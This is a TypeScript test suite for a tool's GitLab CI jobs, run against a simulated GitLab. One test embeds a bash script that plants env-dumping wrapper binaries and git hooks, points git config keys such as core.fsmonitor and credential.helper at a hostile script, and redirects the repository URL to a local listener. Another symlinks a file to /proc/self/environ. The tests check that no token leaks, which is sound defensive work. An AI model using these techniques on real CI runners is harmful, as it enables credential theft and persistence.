/**
 * The jobs for GitLab, as `trueup init` writes them. They run with bash in clones of a bare repository, with a
 * simulated GitLab.
 */

import {
  existsSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { serve } from "@hono/node-server";
import { Hono } from "hono";
import { afterAll, beforeAll, expect, onTestFinished, test } from "vitest";
import { gitlabInclude } from "../../src/cli/init/workflow-files.ts";
import { changeLive } from "../../src/simulator/changes.ts";
import { gitlabProject } from "./gitlab-project.ts";
import { type JobName, placesOf, runJob, runOther } from "./gitlab-runner.ts";
import { keptFiles } from "./machine.ts";
import { packed } from "./packed.ts";
import { fileWith } from "./small-company.ts";

const shared = mkdtempSync(join(tmpdir(), "trueup-gitlab-"));
let tarball = "";

beforeAll(() => {
  tarball = packed(shared);
});

afterAll(() => rmSync(shared, { recursive: true, force: true }));

test("the first week at GitLab: from an empty repository to drift that was adopted", async () => {
  const { host, served, work, git, push, machine, ada, applied } = await gitlabProject({ shared, tarball });
  const run = (name: JobName, branch?: string) => runJob(machine, name, branch);

  // Imports the live state, and writes GitLab's jobs. Refs are stored as tags, because this host accepts no other refs.
  await ada(work, "init", "--import", served.urls.dashboard, "--dialect", "neutral");
  expect(readFileSync(join(work, ".gitlab-ci.yml"), "utf8")).toBe(gitlabInclude);
  push("main");
  await run("trueup:planned");
  await run("trueup:apply");
  expect(applied()).toBe(git("rev-parse", "HEAD"));

  // A merge request has only one comment, however often it is planned. After the merge, it is applied.
  const path = join(work, fileWith(join(work, "desired-state"), "timeZone: Europe/Berlin"));
  const edit = (from: string, to: string) => {
    expect(readFileSync(path, "utf8")).toContain(from);
    writeFileSync(path, readFileSync(path, "utf8").replace(from, to));
  };
  edit("timeZone: Europe/Berlin", "timeZone: Europe/Madrid");
  push("proposal");
  await run("trueup:plan", "proposal");
  await run("trueup:plan", "proposal");
  expect(host.notes.map(({ body }) => body)).toEqual([expect.stringContaining("from this pull request")]);
  git("push", "--quiet", "origin", "HEAD:main");
  await run("trueup:planned");
  await run("trueup:apply");
  expect(applied()).toBe(git("rev-parse", "HEAD"));
  const madrid = [...served.world().dashboard.networks.values()].find(
    ({ fields }) => fields.timeZone === "Europe/Madrid",
  );
  expect(madrid).toBeDefined();

  // If a plan cannot be made, the merge request shows the reason.
  edit("timeZone:", "timezone:");
  push("proposal");
  await expect(run("trueup:plan", "proposal")).rejects.toThrow("ended with 1");
  expect(host.notes[0]?.body).toContain("has no field `timezone`");
  git("reset", "--quiet", "--hard", "HEAD~1");

  // A change by hand gets an issue, which is closed when the change is adopted.
  const network = String(madrid?.fields.name);
  served.edit(
    (world) =>
      changeLive(world, { interface: "dashboard", network, set: { timeZone: "Europe/London" } }) ?? world,
  );
  await run("trueup:drift");
  await run("trueup:drift");
  expect(host.issues.map(({ state }) => state)).toEqual(["opened"]);
  expect(host.issues[0]?.description).toContain("Europe/London");
  await ada(work, "adopt", "*");
  push("main");
  await run("trueup:planned");
  await run("trueup:apply");
  await run("trueup:drift");
  expect(host.issues.map(({ state }) => state)).toEqual(["closed"]);
});

test("comments are commands: a note plans again, merges, and what was shown is applied, and nothing else", async () => {
  const {
    host,
    work,
    git,
    push,
    machine: own,
    ada,
    applied,
    served,
  } = await gitlabProject({ shared, tarball });
  const { commands, notes } = host;
  const more = { TRUEUP_COMMENTS: "true", CI_DEFAULT_BRANCH: "main", TRUEUP_COMMAND_TOKEN: "command-token" };
  const payload = join(own.root, "payload.json");
  const machine = { ...own, env: { ...own.env, ...more, TRIGGER_PAYLOAD: payload } };
  const comment = async (body: string, by?: string) => {
    writeFileSync(payload, commands.said(body, by));
    await runJob(machine, "trueup:command");
    return notes.find((note) => note.body?.startsWith("<!-- trueup:trueup-command -->"))?.body;
  };
  await ada(work, "init", "--import", served.urls.dashboard, "--dialect", "neutral");
  push("main");
  await runJob(machine, "trueup:planned");
  await runJob(machine, "trueup:apply");

  const path = join(work, fileWith(join(work, "desired-state"), "timeZone: Europe/Berlin"));
  writeFileSync(path, readFileSync(path, "utf8").replace("Europe/Berlin", "Europe/Madrid"));
  push("proposal");
  commands.head = git("rev-parse", "HEAD");
  const env = { ...machine.env, CI_COMMIT_SHA: commands.head };
  await runJob({ ...machine, env }, "trueup:plan", "proposal");
  expect(notes[0]?.body).toContain("Comment `trueup apply` to merge this");

  expect(await comment("trueup apply", "eve")).toContain("require write permission");
  expect(await comment("trueup plan")).toContain("is planned again");
  expect([commands.again, commands.begun]).toEqual([1, []]);
  commands.merging = () => void git("push", "--quiet", "origin", "HEAD:main");
  expect(await comment("trueup apply")).toContain("is merged");
  const approved = commands.begun[0]?.replace("main TRUEUP_APPROVED=", "") ?? "";
  expect(approved).toMatch(/^7::[0-9a-f]{64}$/);
  const approving = { ...machine, env: { ...machine.env, TRUEUP_APPROVED: approved } };
  const other = { ...machine, env: { ...machine.env, TRUEUP_APPROVED: `7::${"a".repeat(64)}` } };
  await expect(runJob(other, "trueup:approved")).rejects.toThrow("ended with 4");
  await runJob(approving, "trueup:approved");
  expect(applied()).toBe(git("rev-parse", "HEAD"));
  expect(JSON.stringify([...served.world().dashboard.networks.values()])).toContain("Europe/Madrid");
});

/** Leaves files on the machine wherever a later job might use them, as a job of a merge request could do. */
const planting = String.raw`
noted='{ echo "$0 was run"; env; } >> "'"$STOLEN"'"'
plant() {
  mkdir -p "$1"
  for name in git trueup node npm curl tar; do
    printf '#!/bin/sh\n%s\nexec "%s" "$@"\n' "$noted" "$(command -v "$name" || echo true)" > "$1/$name"
    chmod +x "$1/$name"
  done
}
for folder in "$CI_PROJECT_DIR.tmp/trueup" "$TMPDIR/trueup" "$HOME/trueup" "$CI_PROJECT_DIR/.trueup"; do
  plant "$folder/bin"
done
for folder in $(find "$TMPDIR" "$CI_PROJECT_DIR.tmp" -type d -name bin); do plant "$folder"; done
printf '#!/bin/sh\n%s\n' "$noted" > .git/evil
chmod +x .git/evil
for hook in post-checkout pre-push reference-transaction post-index-change; do cp .git/evil ".git/hooks/$hook"; done
for key in core.fsmonitor core.sshCommand core.askPass credential.helper gpg.program; do
  git config "$key" "$PWD/.git/evil"
done
git config log.showSignature true
git config "url.$ELSEWHERE.insteadOf" "$CI_PROJECT_URL"
mkdir -p .git/trueup/plans .trueup && echo '{' > .git/trueup/plans/a.json
`;

test("a machine that keeps everything: what the job of a merge request has left, no later job runs or gives a token", async () => {
  const { host, work, push, machine, ada, applied, git, served } = await gitlabProject({ shared, tarball });
  await ada(work, "init", "--import", served.urls.dashboard, "--dialect", "neutral");
  push("main");
  await runJob(machine, "trueup:planned");
  await runJob(machine, "trueup:apply");

  const path = join(work, fileWith(join(work, "desired-state"), "timeZone: Europe/Berlin"));
  writeFileSync(path, readFileSync(path, "utf8").replace("Europe/Berlin", "Europe/Madrid"));
  push("proposal");
  await runJob(machine, "trueup:plan", "proposal");
  const stolen = join(machine.root, "stolen.txt");
  const asked: string[] = [];
  const elsewhere = await listening(asked);
  const env = { ...machine.env, STOLEN: stolen, ELSEWHERE: elsewhere };
  const said = await runOther({ ...machine, env }, "proposal", [planting]);
  expect(said).not.toMatch(/error|denied|No such/i);

  git("push", "--quiet", "origin", "HEAD:main");
  await runJob(machine, "trueup:planned");
  await runJob(machine, "trueup:apply");
  await runJob(machine, "trueup:drift");
  expect(existsSync(stolen) ? readFileSync(stolen, "utf8") : "").toBe("");
  expect(asked).toEqual([]);
  expect(applied()).toBe(git("rev-parse", "HEAD"));
  expect(host.notes).toHaveLength(1);

  // No token is in a file or in the arguments of a program, and each job has removed its folder.
  const { temporary, started, home } = placesOf(machine);
  const ran = readFileSync(started, "utf8");
  expect(ran).toContain("git -c safe.bareRepository=explicit");
  for (const token of ["push-token", "api-token", "simulated-api-key"])
    for (const written of [token, Buffer.from(`trueup:${token}`).toString("base64").replaceAll("=", "")]) {
      expect(ran).not.toContain(written);
      const files = keptFiles(machine.root).filter(({ text }) => text.includes(written));
      expect(files.map((file) => file.path)).toEqual([]);
    }
  expect(readdirSync(temporary).filter((name) => name !== "trueup")).toEqual([]);
  expect(existsSync(join(home, ".cache/trueup"))).toBe(false);
});

test("a merge request that brings a plan, a link of that name and a tag of the branch's name is planned as any other", async () => {
  const { host, work, push, machine, ada, git, served } = await gitlabProject({ shared, tarball });
  await ada(work, "init", "--import", served.urls.dashboard, "--dialect", "neutral");
  push("main");
  await runJob(machine, "trueup:planned");
  await runJob(machine, "trueup:apply");

  const asked: string[] = [];
  const elsewhere = new URL(await listening(asked)).origin;
  const settings = join(work, "trueup.yaml");
  const own = readFileSync(settings, "utf8");
  expect(own).toContain(served.urls.dashboard);
  writeFileSync(settings, own.replace(served.urls.dashboard, elsewhere));
  const path = join(work, fileWith(join(work, "desired-state"), "timeZone: Europe/Berlin"));
  writeFileSync(path, readFileSync(path, "utf8").replace("Europe/Berlin", "Europe/Madrid"));
  const victim = join(machine.root, "of-another-job.txt");
  writeFileSync(victim, "as it was\n");
  symlinkSync(victim, join(work, "plan.html"));
  symlinkSync("/proc/self/environ", join(work, "plan.md"));
  push("proposal");
  git("push", "--quiet", "origin", "HEAD:refs/tags/main");
  await runJob(machine, "trueup:plan", "proposal");
  expect(asked).toEqual([]);
  expect(readFileSync(victim, "utf8")).toBe("as it was\n");
  expect(host.notes.map(({ body }) => body)).toEqual([expect.stringContaining("Europe/Madrid")]);
  expect(host.notes[0]?.body).not.toMatch(/api-token|push-token|simulated-api-key/);
}, 120_000);

test("an apply without the token that pushes says which one is missing, before anything is sent", async () => {
  const { work, push, machine, ada, served } = await gitlabProject({ shared, tarball });
  await ada(work, "init", "--import", served.urls.dashboard, "--dialect", "neutral");
  push("main");
  await runJob(machine, "trueup:planned");
  const { TRUEUP_PUSH_TOKEN: _, ...env } = machine.env;
  await expect(runJob({ ...machine, env }, "trueup:apply")).rejects.toThrow(/TRUEUP_PUSH_TOKEN: is not set/);
});

/** Starts a host that records requests with their authorization. */
async function listening(asked: string[]): Promise<string> {
  const app = new Hono();
  app.all("*", (c) => {
    asked.push(`${c.req.path} ${c.req.header("authorization") ?? ""}`);
    return c.text("", 404);
  });
  const port = await new Promise<number>((done) => {
    const server = serve(
      { fetch: app.fetch, port: 0, hostname: "127.0.0.1", overrideGlobalObjects: false },
      (at: AddressInfo) => done(at.port),
    );
    onTestFinished(() => new Promise((closed) => server.close(() => closed())));
  });
  return `http://127.0.0.1:${port}/acme/network`;
}
